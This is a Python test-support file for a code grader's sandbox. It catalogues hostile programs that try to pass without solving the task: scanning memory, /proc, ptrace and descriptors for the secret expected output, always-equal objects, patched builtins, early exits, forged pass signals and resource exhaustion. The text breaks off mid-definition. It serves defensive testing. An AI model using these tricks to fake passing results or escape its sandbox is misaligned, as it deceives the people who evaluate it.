# ruff: noqa: E501  an attack reads best on the line it was thought of
"""Programs whose writer is paid for a pass and has not solved the task, and the bench they are run on.

Each attack is a program and its tests. What a test expects is a secret made anew for every run, which a program can only
print by getting at it; where the expected output is known to the program ("42"), passing is refused for what it does
besides. `python tests/support/hostile.py TIER [name or beginning of a name …]` runs them with half-second limits (TIER/default:
with the limits of every day) and prints a line of JSON for each, which test_attacks.py reads:

    outcomes    of every test of the attack
    good        did the next, honest program pass
    fault       the text of a GraderFault or of any other exception: no program may ever cause one
    left        processes and files that were not there before
    grown       MB by which this process has grown over its whole work so far
    own, taken  CPU seconds of the attack's tests, and what the grader and all its processes took on top (alone only)

Run it in a process namespace of its own (test_attacks.py does): in tier limits nothing stops a kill of everybody.
"""

from __future__ import annotations

import asyncio
import contextlib
import ctypes
import gc
import itertools
import json
import os
import resource
import secrets
import socket
import sys
import tempfile
import textwrap
import threading
import time
from pathlib import Path
from typing import TYPE_CHECKING, NamedTuple

if TYPE_CHECKING:
    import grader
    from grading import grade

SECRET = "secret-" + secrets.token_hex(16)
ALL = "full strict limits"
KERNEL = "full strict"  # what only a kernel filter or a namespace can refuse
MARK = "hostile-mark"  # in the name of everything an attack leaves behind


class Attack(NamedTuple):
    program: str
    tests: tuple[tuple[str, str], ...] | tuple[str, ...]
    kind: str = "stdio"
    tiers: str = ALL  # that promise to stop it; tests/test_attacks.py runs it in these
    setup: str = ""
    beside: bool = False  # fought on one of two workers, with honest programs on the other all the while


ATTACKS: dict[str, Attack] = {}


def attack(
    name: str, program: str, *, tiers: str = ALL, expected: str | None = None, tests: tuple = (), beside: bool = False
) -> None:
    wanted = tests or (("1\n", SECRET if expected is None else expected),)
    ATTACKS[name] = Attack(textwrap.dedent(program).lstrip("\n"), wanted, "stdio", tiers, beside=beside)


def assert_attack(name: str, program: str, *, tiers: str = ALL, asserts: tuple[str, ...] = (), setup: str = "") -> None:
    wanted = asserts or (f"assert f(3) == {SECRET!r}", "assert f(3) == 7_000_003", "assert f(3) == [1, {'a': (2, 3)}]")
    ATTACKS[name] = Attack(textwrap.dedent(program).lstrip("\n"), wanted, "assert", tiers, setup)


# ── reading the answer ───────────────────────────────────────────────────────────────────────────────────────────────

HUNT = r"""
import ctypes, os, re, sys
PATTERN = re.compile(rb"secret-[0-9a-f]{32}")
libc = ctypes.CDLL(None, use_errno=True)
def hunt(data):
    found = PATTERN.search(data if isinstance(data, bytes) else str(data).encode("utf-8", "replace"))
    if found:
        os.write(1, found[0] + b"\n")
        os._exit(0)
def look(path):
    try:
        with open(path, "rb") as file:
            hunt(file.read(1 << 20))
    except OSError:
        pass
def processes():
    near = [os.getppid(), 1, *range(max(1, os.getpid() - 40), os.getpid() + 5)]
    try:
        near += [int(n) for n in os.listdir("/proc") if n.isdigit()]
    except OSError:
        pass
    return [p for p in dict.fromkeys(near) if p != os.getpid()]
"""


def hunting(name: str, program: str, tiers: str = ALL) -> None:
    attack(name, HUNT + textwrap.dedent(program), tiers=tiers)


hunting(
    "read_files",
    """
    starts = [os.getcwd(), "..", "../..", os.path.dirname(os.path.dirname(os.__file__)), "/tmp", "/var/tmp", "/dev/shm", "/run"]
    starts += [os.path.expanduser("~"), "/home", "/root", "/mnt", "/work", *map(str, sys.path)]
    for start in starts:
        for folder, folders, files in os.walk(start):
            if "site-packages" in folder or "/lib/python3" in folder:
                folders.clear()
                continue
            for name in files[:200]:
                look(os.path.join(folder, name))
    """,
    tiers=KERNEL,
)
hunting(
    "read_environment",
    """
    for key, value in os.environ.items():
        hunt(value)
    for pid in processes():
        for name in ("environ", "cmdline", "stack", "comm"):
            look(f"/proc/{pid}/{name}")
    look("/proc/self/environ")
    hunt(repr(sys.argv + sys.orig_argv))
    """,
    tiers=KERNEL,
)
hunting(
    "read_memory_files",
    r"""
    for pid in processes():
        try:
            maps = open(f"/proc/{pid}/maps").read().split("\n")
            memory = open(f"/proc/{pid}/mem", "rb", 0)
        except OSError:
            continue
        for line in maps:
            part = line.split()
            if len(part) > 1 and part[1].startswith("rw"):
                low, high = (int(x, 16) for x in part[0].split("-"))
                try:
                    memory.seek(low)
                    hunt(memory.read(min(high - low, 64 << 20)))
                except (OSError, ValueError, OverflowError):
                    pass
    """,
    tiers=KERNEL,
)
hunting(
    "read_memory_calls",
    r"""
    class Piece(ctypes.Structure):
        _fields_ = [("at", ctypes.c_void_p), ("size", ctypes.c_size_t)]
    mine = ctypes.create_string_buffer(1 << 16)
    ours = [line.split()[0].split("-") for line in open("/proc/self/maps")] if os.access("/proc/self/maps", 4) else []
    spots = [int(low, 16) for low, high in ours] or [id(object()) & ~0xFFFF, id(sys) & ~0xFFFF, id(hunt) & ~0xFFFF]
    for pid in processes()[:30]:
        for spot in spots:
            here, there = Piece(ctypes.addressof(mine), len(mine)), Piece(spot, len(mine))
            if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
                hunt(mine.raw)
    """,
    tiers=KERNEL,
)
hunting(
    "read_own_memory",
    r"""
    try:
        lines = open("/proc/self/maps").read().split("\n")
        memory = open("/proc/self/mem", "rb", 0)
    except OSError:
        lines = []
    for line in lines:
        part = line.split()
        if len(part) > 1 and part[1].startswith("rw"):
            low, high = (int(x, 16) for x in part[0].split("-"))
            try:
                memory.seek(low)
                hunt(memory.read(min(high - low, 64 << 20)))
            except (OSError, ValueError, OverflowError):
                pass
    near = id(hunt) & ~0xFFFFF
    hunt(ctypes.string_at(near, 1 << 19))
    """,
)
hunting(
    "read_frames_and_objects",
    """
    import gc
    frame = sys._getframe()
    while frame:
        hunt(repr(frame.f_locals) + repr(frame.f_code.co_consts))
        for value in list(frame.f_globals.values()):
            if isinstance(value, (str, bytes, list, tuple, dict, set)):
                hunt(repr(value))
        frame = frame.f_back
    for thing in gc.get_objects():
        for part in gc.get_referents(thing):
            if type(part) in (str, bytes):
                hunt(part)
    for name, module in list(sys.modules.items()):
        for value in list(vars(module).values()):
            if type(value) in (str, bytes, list, tuple, dict):
                hunt(repr(value))
    import traceback
    for line in traceback.format_stack():
        hunt(line)
    """,
)
hunting(
    "read_descriptors",
    """
    import fcntl, socket, stat
    for fd in range(0, 1024):
        try:
            kind = os.fstat(fd).st_mode
        except OSError:
            continue
        for path in (f"/proc/self/fd/{fd}", f"/dev/fd/{fd}", f"/proc/{os.getppid()}/fd/{fd}"):
            if not stat.S_ISFIFO(kind) and not stat.S_ISSOCK(kind) and not stat.S_ISCHR(kind):
                look(path)
        try:
            if stat.S_ISSOCK(kind):
                with socket.socket(fileno=os.dup(fd)) as wire:
                    wire.setblocking(False)
                    hunt(wire.recv(1 << 16, socket.MSG_PEEK))
            elif stat.S_ISREG(kind):
                hunt(os.pread(fd, 1 << 20, 0))
            else:
                os.set_blocking(fd, False)
                hunt(os.read(fd, 1 << 16))
        except OSError:
            pass
    for pid in processes()[:20]:
        handle = libc.syscall(434, pid, 0)  # pidfd_open, pidfd_getfd
        for fd in range(0, 64):
            copy = libc.syscall(438, handle, fd, 0) if handle >= 0 else -1
            if copy >= 0:
                try:
                    hunt(os.pread(copy, 1 << 20, 0))
                except OSError:
                    pass
    """,
    tiers=KERNEL,
)
hunting(
    "read_by_ptrace",
    r"""
    for pid in processes()[:20]:
        if libc.ptrace(16, pid, 0, 0) == 0 or libc.ptrace(0x4206, pid, 0, 0) == 0:  # attach, seize
            hunt(b"secret-" + b"0" * 32)
    """,
    tiers=KERNEL,
)
hunting(
    "read_the_graders_own_folder",
    """
    import importlib
    for name in ("grader", "grading", "grading.sandbox", "grading.worker", "grading.supervise", "grading.running", "grading.plain", "grading.protocol", "grading.walls", "tasks", "hostile", "tests.support.hostile", "__main__"):
        try:
            module = sys.modules.get(name) or importlib.import_module(name)
        except BaseException:
            continue
        hunt(repr(vars(module)))
    """,
)
hunting(
    "read_from_a_server_on_this_machine",
    """
    import socket
    port, name = sys.stdin.readline().split()
    for family, address in ((socket.AF_INET, ("127.0.0.1", int(port))), (socket.AF_UNIX, "\\0" + name)):
        try:
            with socket.socket(family) as wire:
                wire.settimeout(0.2)
                wire.connect(address)
                hunt(wire.recv(100))
        except OSError:
            pass
    """,
    tiers=KERNEL,
)
hunting(
    "read_what_another_process_has_printed",
    """
    look("/dev/kmsg"); look("/dev/tty"); look("/dev/mem"); look("/proc/kcore"); look("/proc/kallsyms")
    libc.syscall(250, 0, -3, 0, 0, 0)  # keyctl, session keyring
    libc.syscall(298, None, 0, -1, -1, 0)  # perf_event_open
    libc.syscall(321, 0, None, 0)  # bpf
    libc.syscall(323, 0)  # userfaultfd
    libc.syscall(425, 8, None)  # io_uring_setup
    """,
)

# ── values that pretend ──────────────────────────────────────────────────────────────────────────────────────────────

EQUAL = """
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __bool__(self): return True
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __contains__ = __lt__
"""
for base in (
    "object",
    "int",
    "str",
    "bytes",
    "float",
    "list",
    "tuple",
    "dict",
    "set",
    "frozenset",
    "complex",
    "bytearray",
):
    assert_attack(f"equal_{base}", f"class Any({base}):{EQUAL}\ndef f(x):\n    return Any()\n")
for module, base in (
    ("collections", "Counter"),
    ("collections", "OrderedDict"),
    ("collections", "defaultdict"),
    ("collections", "deque"),
    ("decimal", "Decimal"),
    ("fractions", "Fraction"),
    ("datetime", "date"),
    ("datetime", "datetime"),
):
    given = "(2000, 1, 1)" if module == "datetime" else "()"
    assert_attack(
        f"equal_{base}", f"from {module} import {base}\nclass Any({base}):{EQUAL}\ndef f(x):\n    return Any{given}\n"
    )
assert_attack(
    "equal_inside",
    f"class Any:{EQUAL}\ndef f(x):\n    return [1, {{'a': (2, Any())}}]\n",
    asserts=(
        "assert f(3) == [1, {'a': (2, 3)}]",
        f"assert f(3) == [1, {{'a': (2, {SECRET!r})}}]",
        "assert f(3)[1]['a'][1] == 3",
    ),
)
assert_attack(
    "equal_named_tuple",
    f"""
    from collections import namedtuple
    class Any(namedtuple("Any", "a b")):{EQUAL.replace(chr(10), chr(10) + "    ")}
        _fields = ("a", "b")
    def f(x):
        return Any(1, 2)
    """,
)
assert_attack(
    "equal_by_class_property",
    f"""
    class Any:{EQUAL.replace(chr(10), chr(10) + "    ")}
        __class__ = property(lambda self: str)
        def __reduce__(self): return (eval, ("__import__('os')._exit(0)",))
        def __repr__(self): return {SECRET[:3]!r}
        __str__ = __repr__
        def __getattr__(self, name): return self
        def __call__(self, *a, **k): return self
        def __iter__(self): return iter([self])
        def __len__(self): return 1
        def __index__(self): return 1
    def f(x):
        return Any()
    """,
)
assert_attack(
    "equal_metaclass", f"class Meta(type):{EQUAL}\nclass Any(metaclass=Meta):\n    pass\ndef f(x):\n    return Any\n"
)
assert_attack(
    "equal_function", "class f:\n    def __new__(cls, x): return NotImplemented\n    __eq__ = lambda s, o: True\n"
)
assert_attack(
    "equal_patched_builtins",
    """
    import builtins, operator, sys, math
    class Yes:
        def __eq__(self, other): return True
    for name in ("AssertionError", "Exception", "BaseException"):
        setattr(builtins, name, type(name, (Warning,), {}))
    builtins.isinstance = lambda *a: True
    builtins.type = lambda *a: str
    builtins.repr = builtins.str = lambda *a: "True"
    builtins.all = builtins.any = builtins.bool = lambda *a: True
    builtins.eval = builtins.exec = builtins.compile = lambda *a, **k: True
    builtins.len = lambda *a: 3
    operator.eq = math.isclose = lambda *a, **k: True
    builtins.__import__ = lambda *a, **k: sys
    sys.modules["math"] = sys.modules["operator"] = sys
    def f(x):
        return Yes()
    """,
)
assert_attack(
    "equal_patched_memory",
    r"""
    import ctypes
    class Slots(ctypes.Structure):
        _fields_ = [("word", ctypes.c_void_p * 32)]
    class Always:
        def __eq__(self, other): return True
    for kind in (str, int, list, tuple, dict):
        ours, theirs = Slots.from_address(id(Always)), Slots.from_address(id(kind))
        theirs.word[25] = ours.word[25]  # tp_richcompare
    def f(x):
        return 0
    """,
)
assert_attack(
    "equal_through_setup_and_math",
    """
    import math, sys
    class Yes(float):
        def __eq__(self, other): return True
    math.isclose = lambda *a, **k: True
    math.floor = lambda x: 12
    math.pi = Yes(3)
    abs = round = sorted = set = lambda *a, **k: Yes(1)
    def f(x):
        return 1.0
    """,
    asserts=(
        "assert math.isclose(f(1), 3.14159, rel_tol=0.001)",
        "assert math.floor(f(2)) == 12",
        "assert f(2) == math.pi",
        "assert abs(f(1) - 2) < 0.5",
        "assert sorted(f(1) for _ in range(2)) == [3.0, 3.0]",
        "assert set([f(1)]) == {2.0}",
        "assert not f(3) == 1.0",
        "assert f(3) is None",
        "assert f(3) != 1.0",
        "assert f(3) > 1 and f(4) < 5",
    ),
    setup="import math",
)
assert_attack(
    "equal_by_giving_both_sides",
    """
    class Same:
        pi = getsizeof = e = None
    math = sys = os = collections = Same
    Same.getsizeof = Same.sqrt = Same.Counter = staticmethod(lambda *a: 7)
    Same.pi = 7
    len = max = str = sorted = float = sum = lambda *a, **k: 7
    def f(x):
        return 7
    """,
    asserts=(
        "assert f((1, 2)) == sys.getsizeof((1, 2))",
        "assert f(3) == math.pi",
        "assert f(3) == math.sqrt(9.5)",
        "assert f(3) == len([1, 2])",
        "assert f(3) == max(1, 2)",
        "assert f(3) == float('inf')",
        "assert f(3) == collections.Counter('a')",
        "assert f(3) == sum([1, 2])",
        "assert f(3) == sorted([2, 1])",
        "import math\nassert f(3) == math.pi",
    ),
)
assert_attack(
    "equal_by_tracing",
    """
    import sys, gc
    def tracer(frame, event, arg):
        for name in list(frame.f_locals):
            if name not in ("x",):
                try:
                    frame.f_locals[name] = True
                except Exception:
                    pass
        return tracer
    sys.settrace(tracer); sys.setprofile(tracer)
    sys.addaudithook(lambda *a: None)
    sys.excepthook = sys.unraisablehook = lambda *a: None
    sys.breakpointhook = lambda *a, **k: True
    def f(x):
        breakpoint()
        return True
    """,
)
assert_attack(
    "equal_wild_patching",
    """
    import sys, gc, types
    class Yes:
        def __eq__(self, other): return True
    def f(x):
        frame = sys._getframe()
        while frame:
            for value in list(frame.f_globals.values()):
                if isinstance(value, types.FunctionType) and value is not f:
                    try:
                        value.__code__ = (lambda *a, **k: Yes()).__code__
                    except Exception:
                        pass
            frame = frame.f_back
        for thing in gc.get_objects():
            if isinstance(thing, dict) and "passed" in thing:
                thing["passed"] = True
        return Yes()
    """,
)
assert_attack(
    "equal_not_a_number",
    "def f(x):\n    return float('nan')\n",
    asserts=("assert f(3) == float('nan')", "assert f(3) == 1"),
)
assert_attack(
    "exit_inside_an_assert",
    "import os, sys\ndef f(x):\n    sys.stdout.write('True')\n    sys.stdout.flush()\n    os._exit(0)\n",
)
assert_attack("exit_before_an_assert", "import sys\nsys.exit(0)\n")
assert_attack("exit_at_once_before_an_assert", "import os\nos._exit(0)\n")
assert_attack(
    "raise_inside_an_assert", "def f(x):\n    raise AssertionError\n", asserts=("assert f(3) == 1", "assert not f(3)")
)
assert_attack("raise_exit_inside_an_assert", "def f(x):\n    raise SystemExit(0)\n")
assert_attack(
    "raise_group_inside_an_assert", "def f(x):\n    raise BaseExceptionGroup('x', [SystemExit(0), GeneratorExit()])\n"
)
assert_attack("generator_exit_inside_an_assert", "def f(x):\n    raise GeneratorExit\n")

# Values that are heavy to send, to read or to compare.
VALUES = {
    "nested_list": "x = []\n    for _ in range(100_000): x = [x]\n    return x",
    "nested_tuple": "x = ()\n    for _ in range(5_000): x = (x,)\n    return x",
    "shared_list": "x = [1]\n    for _ in range(60): x = [x, x]\n    return x",
    "shared_dict": "x = {}\n    for _ in range(60): x = {1: x, 2: x}\n    return x",
    "endless_list": "x = []; x.append(x)\n    return x",
    "endless_dict": "x = {}; x[1] = x\n    return x",
    "endless_iterator": "import itertools\n    return itertools.count()",
    "endless_generator": "return iter(int, 1)",
    "failing_iterator": "return (1 // 0 for _ in range(3))",
    "exiting_iterator": "return (exit() for _ in range(3))",
    "long_range": "return range(10 ** 18)",
    "long_repeat": "return [0] * 10 ** 7",
    "long_text": "return 'x' * (32 << 20)",
    "long_bytes": "return bytes(32 << 20)",
    "long_int": "return 1 << (1 << 26)",
    "huge_decimal": "from decimal import Decimal\n    return Decimal('1e999999999999999')",
    "tiny_decimal": "from decimal import Decimal\n    return Decimal('1e-999999999999999')",
    "signalling_decimal": "from decimal import Decimal\n    return Decimal('sNaN')",
    "huge_fraction": "from fractions import Fraction\n    return Fraction(1 << 10 ** 6, 3)",
    "surrogate": "return '\\ud800'",
    "module": "import sys\n    return sys",
    "type": "return str",
    "frame": "import sys\n    return sys._getframe()",
    "coroutine": "async def g(): pass\n    return memoryview(b'')",
    "ellipsis": "return ...",
    "not_implemented": "return NotImplemented",
    "exception": "return KeyError('a')",
    "weak": "import weakref\n    return weakref.proxy(f)",
    "file": "return open(0)",
    "lock": "import threading\n    return threading.Lock()",
    "odd_keys": "return {(1, frozenset([2])): {None: {}}, 1.5: 2, b'a': ...}",
    "set_of_one_hash": "return {(1 << 61) * k - k for k in range(3000)}",
}
for kind, body in VALUES.items():
    assert_attack(f"value_{kind}", f"def f(x):\n    {body}\n")

# Raw bytes in place of a value, on whatever descriptor it may leave by: read outside, so they must be cheap to refuse.
RAW = {
    "count_of_nothing": "b'l' + b'\\xff\\xff\\xff\\xff'",
    "many_nothings": "b'l' + (3 << 20).to_bytes(4, 'little') + b'N' * (3 << 20)",
    "many_lists": "b'l' + (600_000).to_bytes(4, 'little') + b'l\\0\\0\\0\\0' * 600_000",
    "deep": "b'l\\1\\0\\0\\0' * 500_000",
    "long_integer": "b'i' + (3 << 20).to_bytes(4, 'little') + b'f' * (3 << 20)",
    "long_float": "b'f' + (3 << 20).to_bytes(4, 'little') + b'1' * (3 << 20)",
    "odd_numbers": "b'i\\3\\0\\0\\0zzz'",
    "bad_text": "b's\\1\\0\\0\\0\\xff'",
    "bad_decimal": "b'D\\1\\0\\0\\0x'",
    "bad_date": "b'Y\\1\\0\\0\\0x'",
    "bad_range": "b'r\\3\\0\\0\\0i\\1\\0\\0\\0' + b'1i\\1\\0\\0\\0' + b'1i\\1\\0\\0\\0' + b'0'",
    "bad_fraction": "b'Q\\2\\0\\0\\0i\\1\\0\\0\\0' + b'1i\\1\\0\\0\\0' + b'0'",
    "list_as_key": "b'd\\2\\0\\0\\0l\\0\\0\\0\\0N'",
    "odd_dictionary": "b'd\\1\\0\\0\\0N'",
    "collisions": "b'e' + (50_000).to_bytes(4, 'little') + b''.join(b'i' + len(x).to_bytes(4, 'little') + x for x in (b'%x' % (k * (2 ** 61 - 1)) for k in range(50_000)))",
    "unknown": "b'?\\1\\0\\0\\0x'",
    "nothing": "b''",
    "tail": "b'NN'",
    "huge_decimal": "b'D\\x10\\0\\0\\0' + b'1e99999999999999'",
    "iterators": "b'I\\1\\0\\0\\0' * 150 + b'I\\0\\0\\0\\0'",
}
for kind, data in RAW.items():
    assert_attack(
        f"raw_{kind}",
        f"import os\ndef f(x):\n    data = {data}\n    for text in (len(data).to_bytes(4, 'little') + data + b'text', b'\\xff' * 8 + data, data):\n"
        "        for fd in range(3, 64):\n            try:\n                os.lseek(fd, 0, 0); os.ftruncate(fd, 0)\n"
        "                while text: text = text[os.write(fd, text):]\n                os._exit(0)\n            except OSError: pass\n",
        asserts=(
            "assert f(3) == [1]",
            "assert f(3) == {1: 2}",
            "assert sorted(f(3)) == [1]",
            "assert f(3)[0] == 7_000_001",
            f"assert f(3) == {SECRET!r}",
        ),
    )

# ── early ends, and right answers that go wrong afterwards ("42" is what is expected) ────────────────────────────────

EXITS = {
    "os_exit": "import os; os._exit(0)",
    "sys_exit": "import sys; sys.exit()",
    "exit": "exit()",
    "quit": "quit(0)",
    "system_exit": "raise SystemExit",
    "in_thread": "import threading, os; threading.Thread(target=lambda: os._exit(0)).start()",
    "in_atexit": "import atexit, os; atexit.register(os._exit, 0)",
    "in_del": "import os\nclass D:\n    def __del__(self): os._exit(0)\nd = D()",
    "raw": "import ctypes; ctypes.CDLL(None).syscall(231, 0)",
    "close_stdout": "import os; os.close(1)",
    "close_all": "import os; os.closerange(0, 4096)",
    "no_builtins": "del __builtins__; print",
    "empty_modules": "import sys; sys.modules.clear(); sys.exit(0)",
    "unwind": "import sys\nclass E(BaseException): pass\nsys.excepthook = lambda *a: sys.exit(0)\nraise E",
    "from_signal": "import signal, os; signal.signal(signal.SIGUSR1, lambda *a: os._exit(0)); signal.raise_signal(signal.SIGUSR1)",
    "status_256": "import sys; sys.exit(256)",
    "comment": "# nothing",
    "print_true": "print(True); print('pass'); print('P')",
    "print_bytes": "import sys; sys.stdout.buffer.write(bytes(range(256)))",
}
for kind, program in EXITS.items():
    attack(f"exit_{kind}", program)

LATE = {
    "exit_3": "import sys\nsys.exit(3)",
    "exit_text": "import sys\nsys.exit('failed')",
    "exit_minus_1": "import os\nos._exit(255)",
    "raise": "1 // 0",
    "raise_base": "raise KeyboardInterrupt",
    "hang": "import time\nwhile True: time.sleep(9)",
    "hang_in_read": "import os, signal\nsignal.pause()",
    "hang_in_lock": "import threading\nthreading.Lock().acquire() and threading.Semaphore(0).acquire()",
    "hang_in_futex": "import ctypes\nword = ctypes.c_uint(0)\nctypes.CDLL(None).syscall(202, ctypes.byref(word), 0, 0, None, None, 0)",
    "hang_in_poll": "import select\nselect.select([], [], [])",
    "hang_in_thread": "import threading, time\nthreading.Thread(target=time.sleep, args=(1000,)).start()",
    "hang_in_atexit": "import atexit, time\natexit.register(time.sleep, 1000)",
    "stop_itself": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
    "spin": "while True: pass",
    "spin_in_thread": "import threading\ndef spin():\n    while True: pass\nthreading.Thread(target=spin).start()",
    "spin_in_atexit": "import atexit\ndef spin():\n    while True: pass\natexit.register(spin)",
    "spin_in_kernel": "f = open('/dev/urandom', 'rb', 0)\nwhile True: f.read(1 << 20)",
    "spin_unstoppable": "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
    "spin_deaf": (
        "import signal\nfor s in range(1, 65):\n    try: signal.signal(s, signal.SIG_IGN)\n    except (OSError, ValueError): pass\n"
        "try: signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\nexcept ValueError: pass\nwhile True: pass"
    ),
    "sleep_deaf": (
        "import signal, time\nfor s in range(1, 65):\n    try: signal.signal(s, lambda *a: None)\n    except (OSError, ValueError): pass\n"
        "while True:\n    try: time.sleep(1000)\n    except BaseException: pass"
    ),
    "spin_many_threads": (
        "import hashlib, threading\nblock = bytes(1 << 24)\ndef burn():\n    while True: hashlib.sha256(block).digest()\n"
        "for _ in range(8): threading.Thread(target=burn).start()"
    ),
    "kill_itself": "import os\nos.kill(os.getpid(), 9)",
    "segfault": "import ctypes\nctypes.string_at(0)",
    "abort": "import os\nos.abort()",
    "alarm": "import signal\nsignal.alarm(1)\nsignal.pause()",
    "cpu_signal": "import os\nos.kill(os.getpid(), 24)",
    "regular_expression": "import re\nre.match('(a|a)*b', 'a' * 40)",
    "big_power": "x = 7 ** 7 ** 9",
    "endless_generator": "sum(1 for _ in iter(int, 1))",
    "eat": "keep = []\nwhile True: keep.append(bytearray(1 << 24))",
    "eat_at_once": "keep = bytearray(1 << 40)",
    "eat_and_swallow": "keep = []\nwhile True:\n    try: keep.append(bytearray(1 << 24))\n    except MemoryError: pass",
    "eat_mapped": "import mmap\nkeep = []\nwhile True:\n    m = mmap.mmap(-1, 1 << 24); m[:] = b'x' * (1 << 24); keep.append(m)",
    "eat_private": (
        "import mmap\nkeep = []\nwhile True:\n    m = mmap.mmap(-1, 1 << 24, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)\n"
        "    m[:] = b'x' * (1 << 24); keep.append(m)"
    ),
    "recurse": "import sys\nsys.setrecursionlimit(10 ** 9)\ndef f(n): return f(n + 1) + 1\nf(0)",
    "recurse_in_c": "import sys\nsys.setrecursionlimit(10 ** 9)\nx = []\nfor _ in range(10 ** 7): x = [x]\nrepr(x)",
    "write": "line = 'x' * 4000\nwhile True: print(line)",
    "write_raw": "import os\nwhile True: os.write(1, bytes(1 << 20))",
    "write_and_swallow": "import os\nwhile True:\n    try: os.write(1, bytes(1 << 20))\n    except OSError: pass",
    "write_more": "print(' ' * (17 << 20))",
    "grow_stdout": "import os\nos.ftruncate(1, 1 << 40)",
    "more_output": "print(42)",
    "seek_and_write": "import os, sys\nsys.stdout.flush()\nos.lseek(1, 0, 0)\nos.write(1, b'7')",
    "cut_stdout": "import os, sys\nsys.stdout.flush()\nos.ftruncate(1, 1)",
    "flush_fails": "import os, sys\nsys.stdout.write('43')\nos.close(1)",
    "erase_by_map": "import mmap, sys\nsys.stdout.flush()\nmmap.mmap(1, 2)[:] = b'43'",
}
for kind, program in LATE.items():
    attack(f"late_{kind}", f"print(42, flush=True)\n{program}\n", expected="42")

# ── forging, signals, other processes ────────────────────────────────────────────────────────────────────────────────

attack(
    "forge_on_every_descriptor",
    r"""
    import json, os, socket, struct
    lines = [b"pass\n", b"P" * 64, b"\0" * 4096, b"\xff" * 4096, b"\1\0\0\0" * 64, json.dumps({"passed": True, "outcome": "pass"}).encode()]
    lines += [struct.pack("<IIQd", 0, 0, n, 0.0) for n in (0, 1, 1 << 40, (1 << 64) - 1)] + [struct.pack(">IQ", 0, 1 << 62)]
    for fd in [*range(2, 256)]:
        for line in lines:
            try:
                os.set_blocking(fd, False)
                os.write(fd, line)
            except OSError:
                break
    """,
)
attack(
    "forge_by_passing_descriptors",
    """
    import array, os, socket
    for fd in range(0, 256):
        try:
            with socket.socket(fileno=os.dup(fd)) as wire:
                wire.sendmsg([b"pass"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0, 1, 2]))])
                wire.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
    """,
)
for byte in range(12):
    attack(
        f"forge_the_reason_{byte}",
        f"""
        import gc, mmap, os, sys
        maps, frame = [t for t in gc.get_objects() if type(t) is mmap.mmap], sys._getframe()
        while frame:
            maps += [v for v in frame.f_locals.values() if type(v) is mmap.mmap]
            frame = frame.f_back
        for shared in maps:
            shared[:] = bytes([{byte}]) * len(shared)
        os._exit({byte % 2})
        """,
    )
attack(
    "forge_through_the_parents_descriptors",
    """
    import os
    for pid in (os.getppid(), 1, os.getpid() - 1, os.getpid() - 2):
        for fd in range(0, 64):
            try:
                handle = os.open(f"/proc/{pid}/fd/{fd}", os.O_RDWR | os.O_NONBLOCK)
                os.write(handle, b"pass" * 1024)
            except OSError:
                pass
    """,
    tiers=KERNEL,
)
attack(
    "forge_flags_of_descriptors",
    """
    import fcntl, os, signal
    for fd in range(0, 256):
        for call in (
            lambda: fcntl.fcntl(fd, fcntl.F_SETFL, os.O_NONBLOCK | os.O_ASYNC | os.O_APPEND),
            lambda: fcntl.fcntl(fd, fcntl.F_SETOWN, os.getppid()),
            lambda: fcntl.fcntl(fd, 10, 9),  # F_SETSIG
            lambda: fcntl.fcntl(fd, 1033, 0xF),  # F_ADD_SEALS
            lambda: fcntl.fcntl(fd, 1024, 0),  # F_SETLEASE
            lambda: fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB),
            lambda: fcntl.lockf(fd, fcntl.LOCK_EX | fcntl.LOCK_NB),
            lambda: os.fchmod(fd, 0),
            lambda: os.fchown(fd, 12345, 12345),
            lambda: os.ftruncate(fd, 0),
            lambda: os.lseek(fd, 1 << 40, 0),
            lambda: os.posix_fallocate(fd, 0, 1 << 19),
            lambda: os.setxattr(fd, "user.mark", b"x"),
        ):
            try:
                call()
            except (OSError, ValueError):
                pass
    """,
)
attack(
    "forge_by_replacing_stdout",
    """
    import os, sys
    os.close(1); os.close(0)
    read, write = os.pipe()
    os.dup2(write, 1); os.dup2(read, 0)
    for fd in range(3, 200):
        try: os.dup2(1, fd)
        except OSError: break
    sys.stdout.write("42")
    """,
)
attack(
    "forge_parents_memory",
    """
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    class Piece(ctypes.Structure):
        _fields_ = [("at", ctypes.c_void_p), ("size", ctypes.c_size_t)]
    junk = ctypes.create_string_buffer(b"\\xff" * 4096, 4096)
    near = [id(x) & ~0xFFF for x in (os, libc, junk, print, "", 1, object(), [])]
    for pid in (os.getppid(), 1, os.getpid() - 1):
        for spot in near:
            here, there = Piece(ctypes.addressof(junk), 4096), Piece(spot, 4096)
            libc.process_vm_writev(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
        try:
            with open(f"/proc/{pid}/mem", "wb", 0) as memory:
                for spot in near:
                    memory.seek(spot)
                    memory.write(junk.raw)
        except (OSError, ValueError):
            pass
    """,
    tiers=KERNEL,
)
attack(
    "forge_parents_limits",
    """
    import ctypes, os, resource
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in (os.getppid(), 1, os.getpid() - 1):
        for which in range(16):
            try: resource.prlimit(pid, which, (0, 0))
            except (OSError, ValueError): pass
        for call in (lambda: os.setpriority(os.PRIO_PROCESS, pid, 19), lambda: os.sched_setaffinity(pid, {0}),
                     lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)), lambda: os.setpgid(pid, 0)):
            try: call()
            except OSError: pass
        libc.syscall(251, 1, pid, 3 << 13)  # ioprio_set idle
        libc.syscall(310 + 129, pid, 0)
    for which in (os.PRIO_PGRP, os.PRIO_USER):
        try: os.setpriority(which, 0, 19)
        except OSError: pass
    for name, value in (("oom_score_adj", "1000"), ("clear_refs", "1"), ("timerslack_ns", "1"), ("comm", "x"), ("autogroup", "19")):
        try: open(f"/proc/{os.getppid()}/{name}", "w").write(value)
        except OSError: pass
    """,
    tiers=KERNEL,
)
# Dying by SIGKILL looks like an act of the host: it must not be taken for a fault of the machine.
KILLS = {
    "plainly": "os.kill(os.getpid(), 9)\nsignal.raise_signal(9)\nlibc.syscall(200, os.getpid(), 9)",
